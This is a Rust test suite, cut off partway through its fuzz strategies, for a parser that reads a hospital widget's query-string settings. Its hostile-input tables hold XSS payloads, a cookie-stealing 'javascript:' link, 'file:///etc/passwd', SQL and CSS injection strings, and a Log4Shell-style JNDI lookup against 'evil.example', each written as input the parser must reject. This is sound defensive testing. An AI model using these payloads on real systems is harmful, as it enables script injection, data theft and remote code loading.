//! The host configuration parser (decision D4): every setting's valid forms, a table of hostile
//! values each with the exact fallback and warning, a fuzz-style property over arbitrary input,
//! the console message (one line, never repeating a rejected value), and the report the
//! configuration page for web teams shows (`report_json`, section 5).

mod support;

use engine::host_config::{
    parse_pairs, parse_query, report_json, theme_contrast, Colour, ConfigWarning, HostConfig,
    Known, Parsed, Phone, Problem, ThemeToken, MAX_NAME_CHARS, MAX_PARAMETERS, MAX_VALUE_BYTES,
};
use proptest::prelude::*;
use proptest::test_runner::Config as ProptestConfig;
use std::borrow::Cow;
use std::collections::BTreeMap;

const NO_WARNINGS: [ConfigWarning; 0] = [];

const KNOWN: Known<'static> = Known {
    languages: &["en", "es"],
    regions: &["uk", "us", "eu", "au"],
};

/// Every setting, in the column order of [`MATRIX`].
const KEYS: [&str; 9] = [
    "lang",
    "region",
    "parent",
    "hospital-name",
    "hospital-link",
    "hospital-phone",
    "theme-button",
    "theme-link",
    "theme-brand",
];

fn pairs(pairs: &[(&str, &str)]) -> Parsed {
    parse_pairs(
        pairs.iter().map(|&(k, v)| (Cow::from(k), Cow::from(v))),
        &KNOWN,
    )
}

fn one(key: &str, value: &str) -> Parsed {
    pairs(&[(key, value)])
}

fn query(query: &str) -> Parsed {
    parse_query(query, &KNOWN)
}

/// `key=value&…`, percent-encoded as a browser would.
fn encode<K: AsRef<str>, V: AsRef<str>>(pairs: &[(K, V)]) -> String {
    let mut serializer = form_urlencoded::Serializer::new(String::new());
    for (k, v) in pairs {
        serializer.append_pair(k.as_ref(), v.as_ref());
    }
    serializer.finish()
}

fn warning(key: &str, problem: Problem) -> ConfigWarning {
    ConfigWarning {
        key: key.to_string(),
        problem,
    }
}

/// Parses `key=value` both ways (decoded pairs, and an encoded query with its `?`) and checks
/// they agree and that nothing was ignored.
fn accepted(key: &str, value: &str) -> HostConfig {
    let parsed = one(key, value);
    assert_eq!(
        parsed.warnings, NO_WARNINGS,
        "{key}={value:?} should be accepted"
    );
    assert_ne!(parsed.config, HostConfig::default(), "{key}={value:?}");
    assert_eq!(query(&format!("?{}", encode(&[(key, value)]))), parsed);
    parsed.config
}

// ---------------------------------------------------------------------------------------------
// 1. Valid configurations
// ---------------------------------------------------------------------------------------------

#[test]
fn language_is_matched_by_its_primary_subtag() {
    for (tag, expected) in [
        ("en", "en"),
        ("es", "es"),
        ("es-MX", "es"),
        ("EN_gb", "en"),
        ("ES-419", "es"),
        ("en-Latn-GB-oxendict", "en"),
        ("  es-ES  ", "es"),
    ] {
        assert_eq!(
            accepted("lang", tag).language.as_deref(),
            Some(expected),
            "{tag}"
        );
    }
    assert_eq!(query("lang=es-MX").config.language.as_deref(), Some("es"));
}

#[test]
fn region_is_matched_ignoring_case_and_surrounding_space() {
    for (code, expected) in [
        ("uk", "uk"),
        ("US", "us"),
        ("Eu", "eu"),
        ("au", "au"),
        ("UK ", "uk"),
    ] {
        assert_eq!(
            accepted("region", code).region.as_deref(),
            Some(expected),
            "{code:?}"
        );
    }
    // `+` is a space in a query string, so `region=UK+` is "UK ", and is accepted.
    assert_eq!(query("?region=UK+").config.region.as_deref(), Some("uk"));
}

#[test]
fn parent_is_serialised_as_the_browser_serialises_an_origin() {
    for (given, expected) in [
        ("https://hospital.example", "https://hospital.example"),
        ("https://Hospital.EXAMPLE/", "https://hospital.example"),
        ("HTTPS://www.nhs.uk:443", "https://www.nhs.uk"),
        (
            "https://hospital.example:8443",
            "https://hospital.example:8443",
        ),
        ("https://localhost:8443/", "https://localhost:8443"),
        ("https://10.0.0.1", "https://10.0.0.1"),
        (
            "https://xn--hpital-9ua.example",
            "https://xn--hpital-9ua.example",
        ),
        // http only for loopback hosts, so the end-to-end tests can run without certificates.
        ("http://127.0.0.1:8080", "http://127.0.0.1:8080"),
        ("http://localhost:3000/", "http://localhost:3000"),
        ("http://LOCALHOST:80", "http://localhost"),
        ("http://[::1]:8080", "http://[::1]:8080"),
    ] {
        assert_eq!(
            accepted("parent", given).parent_origin.as_deref(),
            Some(expected),
            "{given}"
        );
    }
    assert_eq!(
        query("parent=http%3A%2F%2F127.0.0.1%3A8080")
            .config
            .parent_origin
            .as_deref(),
        Some("http://127.0.0.1:8080")
    );
}

#[test]
fn hospital_name_is_kept_as_plain_text() {
    let longest = "a".repeat(MAX_NAME_CHARS);
    for (given, expected) in [
        ("St Mary's Hospital", "St Mary's Hospital"),
        ("  Hôpital Saint-Louis  ", "Hôpital Saint-Louis"),
        (
            "Guy's & St Thomas' NHS Foundation Trust",
            "Guy's & St Thomas' NHS Foundation Trust",
        ),
        ("聖路加国際病院", "聖路加国際病院"),
        ("مستشفى الملك فيصل", "مستشفى الملك فيصل"),
        ("NHS 🏥 Trust", "NHS 🏥 Trust"),
        (
            "\"Quoted\" & javascript:alert(1)",
            "\"Quoted\" & javascript:alert(1)",
        ),
        (longest.as_str(), longest.as_str()),
    ] {
        assert_eq!(
            accepted("hospital-name", given).hospital.name.as_deref(),
            Some(expected)
        );
    }
}

#[test]
fn hospital_link_is_an_https_address() {
    for (given, expected) in [
        (
            "https://www.hospital.example/back-pain",
            "https://www.hospital.example/back-pain",
        ),
        (
            "https://hospital.example/contact?from=widget&x=1#phone",
            "https://hospital.example/contact?from=widget&x=1#phone",
        ),
        (
            "HTTPS://WWW.Hospital.Example/Path",
            "https://www.hospital.example/Path",
        ),
        (
            "https://hospital.example:8443/a%20b",
            "https://hospital.example:8443/a%20b",
        ),
        ("https://hospital.example", "https://hospital.example"),
        ("  https://hospital.example/  ", "https://hospital.example/"),
        (
            "https://hospital.example/@team",
            "https://hospital.example/@team",
        ),
    ] {
        assert_eq!(
            accepted("hospital-link", given).hospital.link.as_deref(),
            Some(expected)
        );
    }
}

#[test]
fn hospital_phone_gives_a_display_and_a_tel_link() {
    for (given, display, href) in [
        ("+44 20 7946 0000", "+44 20 7946 0000", "tel:+442079460000"),
        ("tel:999", "999", "tel:999"),
        ("TEL: (020) 7946-0000", "(020) 7946-0000", "tel:02079460000"),
        ("111", "111", "tel:111"),
        ("1.800.555.0199", "1.800.555.0199", "tel:18005550199"),
        (
            "+123456789012345",
            "+123456789012345",
            "tel:+123456789012345",
        ),
    ] {
        let expected = Phone {
            display: display.into(),
            href: href.into(),
        };
        assert_eq!(
            accepted("hospital-phone", given).hospital.phone,
            Some(expected)
        );
    }
    let parsed = query("hospital-phone=%2B44%2020%207946%200000");
    assert_eq!(
        parsed.config.hospital.phone.unwrap().href,
        "tel:+442079460000"
    );
}

#[test]
fn theme_colours_come_through_the_query_in_token_order() {
    let parsed = query("?theme-brand=%23000&theme-link=%23005EB8&theme-button=%23005eb8");
    assert_eq!(parsed.warnings, NO_WARNINGS);
    let nhs_blue = Colour::new(0x00, 0x5e, 0xb8);
    assert_eq!(
        parsed.config.theme,
        [
            (ThemeToken::Button, nhs_blue),
            (ThemeToken::Link, nhs_blue),
            (ThemeToken::Brand, Colour::new(0, 0, 0)),
        ]
    );
    assert_eq!(nhs_blue.css(), "#005eb8");
}

#[test]
fn theme_tokens_name_their_keys_and_css_properties() {
    let keys: Vec<_> = ThemeToken::ALL.iter().map(|t| t.key()).collect();
    let properties: Vec<_> = ThemeToken::ALL.iter().map(|t| t.css_property()).collect();
    assert_eq!(keys, ["theme-button", "theme-link", "theme-brand"]);
    assert_eq!(
        properties,
        [
            "--bpt-colour-button",
            "--bpt-colour-link",
            "--bpt-colour-brand"
        ]
    );
}

#[test]
fn colours_parse_only_hex_and_measure_contrast_per_wcag() {
    assert_eq!(Colour::parse("#ABC"), Some(Colour::new(0xaa, 0xbb, 0xcc)));
    assert_eq!(
        Colour::parse("#aAbBcC").map(|c| c.css()),
        Some("#aabbcc".to_string())
    );
    for not_hex in [
        "abc",
        "#ab",
        "#abcd",
        "#+ab",
        "#-ab",
        "# abc",
        "#abcdeg",
        "#ａｂｃ",
        "",
    ] {
        assert_eq!(Colour::parse(not_hex), None, "{not_hex:?}");
    }
    let black = Colour::new(0, 0, 0);
    assert!((black.contrast_ratio(Colour::WHITE) - 21.0).abs() < 1e-9);
    assert!((Colour::WHITE.contrast_ratio(black) - 21.0).abs() < 1e-9);
    assert!((Colour::WHITE.contrast_ratio(Colour::WHITE) - 1.0).abs() < 1e-9);
    // #767676 is the lightest grey with 4.5:1 on white (4.54); #949494 the lightest with 3:1.
    let grey = |v: u8| Colour::new(v, v, v);
    assert!((grey(0x76).contrast_ratio(Colour::WHITE) - 4.54).abs() < 0.01);
    for (token, passes, fails) in [
        (ThemeToken::Button, "#767676", "#777777"),
        (ThemeToken::Link, "#767676", "#777777"),
        (ThemeToken::Brand, "#949494", "#959595"),
    ] {
        assert_eq!(accepted(token.key(), passes).theme.len(), 1);
        let parsed = one(token.key(), fails);
        assert_eq!(parsed.config, HostConfig::default());
        assert_eq!(
            parsed.warnings,
            [warning(token.key(), Problem::LowContrast)]
        );
    }
}

#[test]
fn a_full_configuration_parses_with_no_warnings() {
    let parsed = query(
        "?lang=es-MX&region=us&parent=https%3A%2F%2Fhospital.example&hospital-name=St+Mary%27s\
         &hospital-link=https%3A%2F%2Fhospital.example%2Fback&hospital-phone=tel%3A%2B1-800-555-0199\
         &theme-button=%23005eb8&theme-link=%23005eb8&theme-brand=%23000000",
    );
    assert_eq!(parsed.warnings, NO_WARNINGS);
    assert_eq!(parsed.console_message(), None);
    let c = parsed.config;
    assert_eq!(c.language.as_deref(), Some("es"));
    assert_eq!(c.region.as_deref(), Some("us"));
    assert_eq!(c.parent_origin.as_deref(), Some("https://hospital.example"));
    assert_eq!(c.hospital.name.as_deref(), Some("St Mary's"));
    assert_eq!(
        c.hospital.link.as_deref(),
        Some("https://hospital.example/back")
    );
    assert_eq!(c.hospital.phone.unwrap().href, "tel:+18005550199");
    assert_eq!(c.theme.len(), 3);
    assert_eq!(query(""), Parsed::default());
    assert_eq!(query("?"), Parsed::default());
}

// ---------------------------------------------------------------------------------------------
// 2. Hostile and malformed configurations
// ---------------------------------------------------------------------------------------------

/// Each value against every setting, columns in [`KEYS`] order:
/// `I` Invalid, `U` Unsupported, `N` NotHttps, `M` Markup, `L` TooLong, `E` Empty,
/// `C` LowContrast, `.` accepted (a decision, e.g. a name is plain text, so `javascript:` in it
/// is just words).
fn matrix() -> Vec<(String, &'static str)> {
    let rows: Vec<(String, &str)> = vec![
        ("javascript:alert(1)".into(), "I I N . N I I I I"),
        (
            "JaVaScRiPt:alert(document.cookie)".into(),
            "I I N . N I I I I",
        ),
        (
            "javascript://hospital.example/%0aalert(1)".into(),
            "I I N . N I I I I",
        ),
        ("javascript&colon;alert(1)".into(), "I I N . N I I I I"),
        (
            "data:text/html,<script>alert(1)</script>".into(),
            "I I N M N I I I I",
        ),
        ("vbscript:msgbox(1)".into(), "I I N . N I I I I"),
        ("file:///etc/passwd".into(), "I I N . N I I I I"),
        ("sms:999".into(), "I I N . N I I I I"),
        ("http://evil.example".into(), "I I N . N I I I I"),
        ("//evil.example".into(), "I I N . N I I I I"),
        ("https://user@evil.example".into(), "I I I . I I I I I"),
        (
            "https://hospital.example@evil.example".into(),
            "I I I . I I I I I",
        ),
        (
            "https://evil.example\\@hospital.example".into(),
            "I I I . I I I I I",
        ),
        (
            "https://evil.example/\"onmouseover=alert(1)".into(),
            "I I I . I I I I I",
        ),
        ("https://exa mple.org".into(), "I I I . I I I I I"),
        ("https://".into(), "I I I . I I I I I"),
        ("https://999.1.1.1".into(), "I I I . I I I I I"),
        ("https://0x7f.1".into(), "I I I . I I I I I"),
        ("https://localhost".into(), "I I . . I I I I I"),
        ("https://[::1]".into(), "I I . . I I I I I"),
        ("<img src=x onerror=alert(1)>".into(), "I I N M N I I I I"),
        ("</script>".into(), "I I N M N I I I I"),
        ("<svg/onload=alert(1)>".into(), "I I N M N I I I I"),
        ("\"><script>alert(1)</script>".into(), "I I N M N I I I I"),
        ("a".repeat(10_000), "L L L L L L L L L"),
        ("<".repeat(MAX_VALUE_BYTES + 1), "L L L L L L L L L"),
        ("A".repeat(81), "I I N L N I I I I"),
        ("1".repeat(20), "I I N . N I I I I"),
        ("\0".into(), "I I N I N I I I I"),
        ("St\0Mary".into(), "I I N I N I I I I"),
        ("Line\nbreak".into(), "I I N I N I I I I"),
        ("\u{1b}[31mred".into(), "I I N I N I I I I"),
        ("\u{202E}lanigiro".into(), "I I N I N I I I I"),
        ("Hospital\u{2066}x\u{2069}".into(), "I I N I N I I I I"),
        ("\u{200F}en".into(), "I I N I N I I I I"),
        ("\u{FEFF}".into(), "I I N I N I I I I"),
        ("\u{200B}".into(), "I I N I N I I I I"),
        ("😀🏥".into(), "I I N I N I I I I"),
        ("*".into(), "I I N I N I I I I"),
        ("".into(), "E E E E E E E E E"),
        ("   ".into(), "E E E E E E E E E"),
        ("\t\n \u{3000}".into(), "E E E E E E E E E"),
        ("../../etc/passwd".into(), "I I N . N I I I I"),
        ("' OR '1'='1".into(), "I I N . N I I I I"),
        ("${jndi:ldap://evil.example/a}".into(), "I I N . N I I I I"),
        ("%00".into(), "I I N . N I I I I"),
        ("red".into(), "U U N . N I I I I"),
        ("null".into(), "I U N . N I I I I"),
        ("-1".into(), "I U N . N I I I I"),
        ("0".into(), "I U N . N I I I I"),
        ("#12".into(), "I I N . N I I I I"),
        ("#1234567".into(), "I I N . N I I I I"),
        ("#ggg".into(), "I I N . N I I I I"),
        ("rgb(0,0,0)".into(), "I I N . N I I I I"),
        ("var(--x)".into(), "I I N . N I I I I"),
        ("expression(alert(1))".into(), "I I N . N I I I I"),
        ("url(https://evil)".into(), "I I N . N I I I I"),
        ("#000;background:url(x)".into(), "I I N . N I I I I"),
        ("#fff".into(), "I I N . N I C C C"),
        ("#ffff00".into(), "I I N . N I C C C"),
        ("#777".into(), "I I N . N I C C ."),
    ];
    rows
}

fn problem(code: char) -> Option<Problem> {
    Some(match code {
        'I' => Problem::Invalid,
        'U' => Problem::Unsupported,
        'N' => Problem::NotHttps,
        'M' => Problem::Markup,
        'L' => Problem::TooLong,
        'E' => Problem::Empty,
        'C' => Problem::LowContrast,
        '.' => return None,
        other => panic!("unknown code {other}"),
    })
}

/// Hostile values for one setting each.
fn per_setting() -> Vec<(&'static str, String, Problem)> {
    use Problem::*;
    let long_name = "é".repeat(MAX_NAME_CHARS + 1);
    let mut cases: Vec<(&str, String, Problem)> = Vec::new();
    let mut add = |key: &'static str, values: &[&str], problem: Problem| {
        cases.extend(values.iter().map(|v| (key, v.to_string(), problem)));
    };
    add(
        "lang",
        &[
            "e",
            "english",
            "x-klingon",
            "i-default",
            "12",
            "en-",
            "en--GB",
        ],
        Invalid,
    );
    add(
        "lang",
        &["en GB", "en;q=0.9", "en,es", "en-abcdefghi", "en.GB", "ẹn"],
        Invalid,
    );
    add(
        "lang",
        &["fr", "fr-CA", "eng", "de_DE", "zh-Hant-TW", "FR_be"],
        Unsupported,
    );
    add("lang", &["en-GB-abcdefgh-abcdefgh-abcdefgh-x12"], TooLong);
    add(
        "region",
        &["gb", "usa", "GBR", "england", "nhs", "uk-us", "ie", "EU_"],
        Unsupported,
    );
    add(
        "region",
        &["u k", "uk;", "uk,us", "uk/", "europe-west-nineteen", "ük"],
        Invalid,
    );
    add(
        "parent",
        &[
            "https://hospital.example/path",
            "https://hospital.example?x=1",
            "https://hospital.example#x",
            "https://hospital.example//",
            "https://hospital.example:0",
            "https://hospital.example:65536",
            "https://hospital.example:",
            "https://hospital.example:80a",
            "https://hospital.example:443:443",
            "https://hospital..example",
            "https://.hospital.example",
            "https://hospital.example.",
            "https://-bad.example",
            "https://hôpital.example",
            "https://*.example",
            "https://hospital.example/%2e%2e",
            "http://[::2]",
            "http://localhost@evil.example",
        ],
        Invalid,
    );
    add(
        "parent",
        &[
            "http://localhost.evil.example",
            "http://127.0.0.1.evil.example",
            "http://127.0.0.2:8080",
            "http://hospital.example",
            "*",
            "null",
            "ws://hospital.example",
            "hospital.example",
            "https:hospital.example",
            " https :// hospital.example",
        ],
        NotHttps,
    );
    add(
        "hospital-link",
        &[
            "https://hospital.example/a b",
            "https://hospital.example/<x>",
            "https://hospital.example/'x",
            "https://hospital.example/`x`",
            "https://hospital.example/{x}",
            "https://hospital.example/a|b",
            "https://hospital.example/a^b",
            "https://hospital.example/\\x",
            "https://hospital.example/é",
            "https://hospital.example/\tx",
            "https://hospital.example/\nx",
            "https://hospital",
            "https://localhost/x",
            "https://1.2.3",
            "https://256.1.1.1",
            "https://01.2.3.4",
            "https://a_b.example",
            "https://hospital.example:99999",
            "https://hospital.example:0/",
            "https://hôpital.example",
            "https://hospital.example%2F@evil.example",
        ],
        Invalid,
    );
    add(
        "hospital-link",
        &[
            "https:hospital.example",
            "https:/hospital.example",
            "https:\\\\hospital.example",
            "http://hospital.example",
            "HTTP://hospital.example",
            "ftp://hospital.example",
            "hospital.example",
            "www.hospital.example/page",
            "/relative/path",
            "?lang=en",
            "#top",
            "mailto:info@hospital.example",
            "tel:999",
        ],
        NotHttps,
    );
    add(
        "hospital-phone",
        &[
            "12",
            "1234567890123456",
            "++44 20",
            "44+20 7946",
            "+44 20 7946 0000 ext 1",
            "020 7946 0000;ext=1",
            "tel:",
            "tel:+",
            "+",
            "callto:999",
            "tel:999?body=x",
            "999#",
            "*999#",
            "٠١٢٣٤",
            "１２３",
            "1\u{0}23",
            "1\u{a0}23",
            "tel:tel:999",
        ],
        Invalid,
    );
    add(
        "hospital-phone",
        &["((((((((((((((((((((((((((((999))"],
        TooLong,
    );
    add(
        "hospital-name",
        &["St Mary<s", "Hospital>", "<b>Hospital</b>", "a < b"],
        Markup,
    );
    add(
        "hospital-name",
        &[
            "Hospital\u{202D}",
            "\u{061C}Hospital",
            "Hospital\u{2028}Trust",
            "St\u{2029}Mary",
            "Hospital\u{7f}",
            "Hospital\u{85}x",
            "Hos\tpital",
            "!!!",
            "---",
            "\u{200E}\u{200E}",
        ],
        Invalid,
    );
    add("hospital-name", &[long_name.as_str()], TooLong);
    for key in ["theme-button", "theme-link", "theme-brand"] {
        add(
            key,
            &[
                "transparent",
                "#00000000",
                "#0000",
                "# 000",
                "#+00",
                "0x000000",
                "#０００",
                "000000",
                "##000",
                "#000 !important",
                "inherit",
                "currentColor",
                "#000\u{0}",
            ],
            Invalid,
        );
        add(key, &["#ffffff", "#FFF", "#ffb81c", "#eeeeee"], LowContrast);
    }
    cases
}

/// Hostile values as they arrive: encoded in a query string (key, problem, query).
const RAW_QUERIES: &[(&str, Problem, &str)] = &[
    ("hospital-name", Problem::Invalid, "hospital-name=%00"),
    ("hospital-name", Problem::Invalid, "hospital-name=St%0aMary"),
    (
        "hospital-name",
        Problem::Invalid,
        "hospital-name=%E2%80%AEHospital",
    ),
    (
        "hospital-name",
        Problem::Invalid,
        "hospital-name=a%E2%80%8F",
    ),
    (
        "hospital-name",
        Problem::Markup,
        "hospital-name=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ),
    (
        "hospital-link",
        Problem::NotHttps,
        "hospital-link=javascript%3Aalert(1)",
    ),
    (
        "hospital-link",
        Problem::NotHttps,
        "hospital-link=%6Aavascript:alert(1)",
    ),
    (
        "hospital-link",
        Problem::NotHttps,
        "hospital-link=%20javascript:alert(1)",
    ),
    (
        "hospital-link",
        Problem::NotHttps,
        "hospital-link=java%0ascript:alert(1)",
    ),
    (
        "hospital-link",
        Problem::Invalid,
        "hospital-link=https%3A%2F%2Fevil.example%2F%22onmouseover%3D",
    ),
    (
        "hospital-link",
        Problem::Invalid,
        "hospital-link=https://hospital.example/%0ajavascript",
    ),
    (
        "hospital-link",
        Problem::Invalid,
        "hospital-link=https://hospital.example/%E2%80%AE",
    ),
    (
        "parent",
        Problem::Invalid,
        "parent=https%3A%2F%2Fhospital.example%00",
    ),
    (
        "parent",
        Problem::Invalid,
        "parent=https://hospital.example%2F%2E%2E",
    ),
    ("parent", Problem::NotHttps, "parent=%2A"),
    (
        "theme-button",
        Problem::Invalid,
        "theme-button=%23000%3Bbackground%3Aurl(x)",
    ),
    ("theme-button", Problem::Invalid, "theme-button=%2523005eb8"),
    ("theme-link", Problem::Invalid, "theme-link=%23005eb8%00"),
    ("region", Problem::Invalid, "region=%C0%AF"),
    ("region", Problem::Invalid, "region=uk%00"),
    ("lang", Problem::Invalid, "lang=%FF%FE"),
    ("lang", Problem::Invalid, "lang=en%00"),
    (
        "hospital-phone",
        Problem::Invalid,
        "hospital-phone=999%0a%0dtel:",
    ),
    (
        "hospital-phone",
        Problem::Invalid,
        "hospital-phone=tel%3A999%3Fbody%3Dx",
    ),
];

/// Keys that are not settings (key, problem).
const BAD_KEYS: &[(&str, Problem)] = &[
    ("theme-emergency", Problem::Locked),
    ("theme-urgent", Problem::Locked),
    ("theme-urgent-24h", Problem::Locked),
    ("theme-urgent_24h", Problem::Locked),
    ("theme-within-1-week", Problem::Locked),
    ("theme-within_2_weeks", Problem::Locked),
    ("theme-routine", Problem::Locked),
    ("theme-self-care", Problem::Locked),
    ("theme-self_care", Problem::Locked),
    ("theme-urgency", Problem::Locked),
    ("theme-urgency-emergency", Problem::Locked),
    ("THEME-EMERGENCY", Problem::Locked),
    ("theme_emergency-background", Problem::Locked),
    ("theme-background", Problem::UnknownKey),
    ("theme-font", Problem::UnknownKey),
    ("theme", Problem::UnknownKey),
    ("colour", Problem::UnknownKey),
    ("Lang", Problem::UnknownKey),
    ("lang ", Problem::UnknownKey),
    ("hospital_name", Problem::UnknownKey),
    ("utm_source", Problem::UnknownKey),
    ("callback", Problem::UnknownKey),
    ("__proto__", Problem::UnknownKey),
    ("constructor", Problem::UnknownKey),
    ("", Problem::UnknownKey),
];

fn hostile_cases() -> Vec<(String, String, Problem)> {
    let mut cases = Vec::new();
    for (value, codes) in matrix() {
        let codes: Vec<char> = codes.split(' ').flat_map(str::chars).collect();
        assert_eq!(codes.len(), KEYS.len(), "row {value:?}");
        for (key, code) in KEYS.iter().zip(codes) {
            match problem(code) {
                Some(p) => cases.push((key.to_string(), value.clone(), p)),
                None => {
                    accepted(key, &value);
                }
            }
        }
    }
    cases.extend(
        per_setting()
            .into_iter()
            .map(|(key, value, p)| (key.to_string(), value, p)),
    );
    cases
}

/// The single warning and the untouched default config, by decoded pair and by encoded query;
/// the console message names the key and does not repeat the value.
fn assert_falls_back(parsed: &Parsed, key: &str, value: &str, problem: Problem) {
    assert_eq!(
        parsed.config,
        HostConfig::default(),
        "{key}={value:?} must be ignored"
    );
    assert_eq!(parsed.warnings, [warning(key, problem)], "{key}={value:?}");
    let message = parsed.console_message().expect("a warning");
    assert!(message.starts_with(&format!("{key}: ")), "{message}");
    let value = value.trim();
    // Short values can occur in the fixed text by chance ("red" in "offered").
    if value.chars().count() > 8 {
        assert!(!message.contains(value), "{message} repeats {value:?}");
    }
}

#[test]
fn hostile_values_are_ignored_with_the_expected_warning() {
    for (key, value, problem) in hostile_cases() {
        assert_falls_back(&one(&key, &value), &key, &value, problem);
        let encoded = format!("?{}", encode(&[(&key, &value)]));
        assert_falls_back(&query(&encoded), &key, &value, problem);
    }
}

#[test]
fn hostile_queries_are_ignored_with_the_expected_warning() {
    for &(key, problem, raw) in RAW_QUERIES {
        let parsed = query(raw);
        assert_eq!(parsed.config, HostConfig::default(), "{raw}");
        assert_eq!(parsed.warnings, [warning(key, problem)], "{raw}");
    }
}

#[test]
fn keys_that_are_not_settings_are_ignored_without_echoing_the_value() {
    for &(key, problem) in BAD_KEYS {
        let parsed = one(key, "#d5281b-SECRET-VALUE");
        assert_eq!(parsed.config, HostConfig::default(), "{key}");
        assert_eq!(parsed.warnings, [warning(key, problem)], "{key:?}");
        assert!(!parsed.console_message().unwrap().contains("SECRET"));
    }
    // Keys are shown cut short and on one line.
    let parsed = query("lang%00%0A%E2%80%AE=en");
    assert_eq!(
        parsed.warnings,
        [warning("lang\u{FFFD}\u{FFFD}\u{FFFD}", Problem::UnknownKey)]
    );
    let long = "k".repeat(1000);
    let parsed = one(&long, "1");
    assert_eq!(parsed.warnings[0].key, format!("{}…", "k".repeat(40)));
}

#[test]
fn the_first_occurrence_of_a_setting_counts() {
    use Problem::*;
    let cases: &[(&str, HostConfig, Vec<ConfigWarning>)] = &[
        (
            "lang=es&lang=en",
            HostConfig {
                language: Some("es".into()),
                ..HostConfig::default()
            },
            vec![warning("lang", Repeated)],
        ),
        (
            // An unusable first value is not replaced by a later one.
            "lang=fr&lang=en",
            HostConfig::default(),
            vec![warning("lang", Unsupported), warning("lang", Repeated)],
        ),
        (
            "parent=https%3A%2F%2Fhospital.example&parent=https%3A%2F%2Fevil.example",
            HostConfig {
                parent_origin: Some("https://hospital.example".into()),
                ..HostConfig::default()
            },
            vec![warning("parent", Repeated)],
        ),
        (
            "theme-button=%23000&theme-button=%23005eb8&theme-button=%23fff",
            HostConfig {
                theme: vec![(ThemeToken::Button, Colour::new(0, 0, 0))],
                ..HostConfig::default()
            },
            vec![
                warning("theme-button", Repeated),
                warning("theme-button", Repeated),
            ],
        ),
        (
            "hospital-link=javascript:alert(1)&hospital-link=https%3A%2F%2Fhospital.example",
            HostConfig::default(),
            vec![
                warning("hospital-link", NotHttps),
                warning("hospital-link", Repeated),
            ],
        ),
        (
            "region=&region=uk",
            HostConfig::default(),
            vec![warning("region", Empty), warning("region", Repeated)],
        ),
    ];
    for (raw, config, warnings) in cases {
        let parsed = query(raw);
        assert_eq!(&parsed.config, config, "{raw}");
        assert_eq!(&parsed.warnings, warnings, "{raw}");
    }
}

#[test]
fn only_the_first_32_parameters_are_read() {
    // 100 parameters: 32 unknown ones read, then one warning, and the `lang` after them ignored.
    let mut many: Vec<(String, String)> = (0..99).map(|i| (format!("x{i}"), "1".into())).collect();
    many.push(("lang".into(), "es".into()));
    let parsed = query(&encode(&many));
    assert_eq!(parsed.config, HostConfig::default());
    assert_eq!(parsed.warnings.len(), MAX_PARAMETERS + 1);
    assert_eq!(
        parsed.warnings[MAX_PARAMETERS],
        warning("x32", Problem::TooManyParameters)
    );
    // The 32nd is still read.
    let mut just: Vec<(String, String)> = (0..31).map(|i| (format!("x{i}"), "1".into())).collect();
    just.push(("lang".into(), "es".into()));
    let parsed = query(&encode(&just));
    assert_eq!(parsed.config.language.as_deref(), Some("es"));
    assert_eq!(parsed.warnings.len(), 31);
    // The same when every parameter is a valid setting repeated.
    let repeated = "lang=es&".repeat(100);
    let parsed = query(&repeated);
    assert_eq!(parsed.config.language.as_deref(), Some("es"));
    assert_eq!(parsed.warnings.len(), MAX_PARAMETERS);
    assert_eq!(
        parsed.warnings.last().unwrap().problem,
        Problem::TooManyParameters
    );
}

/// Cases in the tables above: hostile values (each checked two ways), raw queries, bad keys,
/// repeats and the parameter limit. Asserted so the tables cannot shrink unnoticed.
#[test]
fn there_are_at_least_200_hostile_cases() {
    let count = hostile_cases().len() + RAW_QUERIES.len() + BAD_KEYS.len() + 6 + 3;
    println!("{count} hostile cases");
    assert!(count >= 200, "only {count} hostile cases");
}

// ---------------------------------------------------------------------------------------------
// 3. Properties over arbitrary input
// ---------------------------------------------------------------------------------------------

/// Cases per property: 2 000 by default; `HOST_CONFIG_FUZZ_CASES` sets it (the fuzz command).
fn config() -> ProptestConfig {
    support::fuzz_config("HOST_CONFIG_FUZZ_CASES")
}

fn key_strategy() -> impl Strategy<Value = String> {
    let odd = vec![
        "theme-emergency",
        "theme-urgent-24h",
        "theme-background",
        "Lang",
        "",
        "x",
    ];
    prop_oneof![
        8 => prop::sample::select(KEYS.to_vec()).prop_map(String::from),
        1 => prop::sample::select(odd).prop_map(String::from),
        1 => any::<String>(),
    ]
}

/// Values near every setting's valid forms, so accepted values are common, mixed with noise.
fn value_strategy() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "[ -~]{0,40}",
        "[a-zA-Z<>\"' \\x00\\n\\x{202E}\\x{2066}\\x{200F}\\x{2028}]{0,30}",
        "[ \\t]?(https?|HTTPS|HtTp|javascript|data|tel)(://?|:)[a-zA-Z0-9.@:\\[\\]_-]{0,24}([/?#][ -~]{0,16})?",
        "(http|https|HTTP)://(localhost|127\\.0\\.0\\.1|\\[::1\\]|[a-z0-9-]{1,8}(\\.[a-z0-9-]{1,8}){0,3})(:[0-9]{1,6})?/?",
        "#[0-9a-fA-FgG]{0,7}",
        "(tel:|TEL:)? ?\\+?[0-9 ()+.-]{0,24}",
        "[a-zA-Z]{1,4}([-_][a-zA-Z0-9]{0,9}){0,4}",
        "[a-zA-Z ]{1,4}",
        "[a-z]{2040,2060}",
    ]
}

/// A setting with a value near its valid form: valid, or off by a character or two.
fn near_valid_pair() -> impl Strategy<Value = (String, String)> {
    let near = |key: &str, value: &str| {
        let value = proptest::string::string_regex(value).expect("a valid regex");
        (Just(key.to_string()), value)
    };
    prop_oneof![
        near("lang", " ?(en|es|EN|eS|fr|[a-z]{1,4})([-_][a-zA-Z0-9]{0,9}){0,3}"),
        near("region", " ?(uk|us|eu|au|UK|Au|gb|[a-z]{2,3}) ?"),
        near(
            "parent",
            "(https|HTTPS|http)://(localhost|127\\.0\\.0\\.1|\\[::1\\]|[a-z0-9-]{1,8}(\\.[a-z0-9-]{1,8}){0,2}\\.(example|org|1))(:[0-9]{1,5})?/?"
        ),
        near("hospital-name", "[a-zA-Z0-9 '&.,-]{0,85}|[a-z<>\\x00\\x{202E}\\x{200F} ]{0,10}"),
        near(
            "hospital-link",
            "(https|HTTPS|http)://[a-z0-9-]{1,10}\\.(example|org|uk)(:[0-9]{1,5})?([/?#][!-~]{0,30})?"
        ),
        near(
            "hospital-phone",
            "(tel:|TEL:)? ?\\+?[0-9]{1,4}([ ().-]{0,2}[0-9]{1,4}){0,5}|[0-9 ()+.-]{0,24}"
        ),
        near("theme-button", "#[0-7][0-9a-f]{5}|#[0-9a-fA-F]{3,7}"),
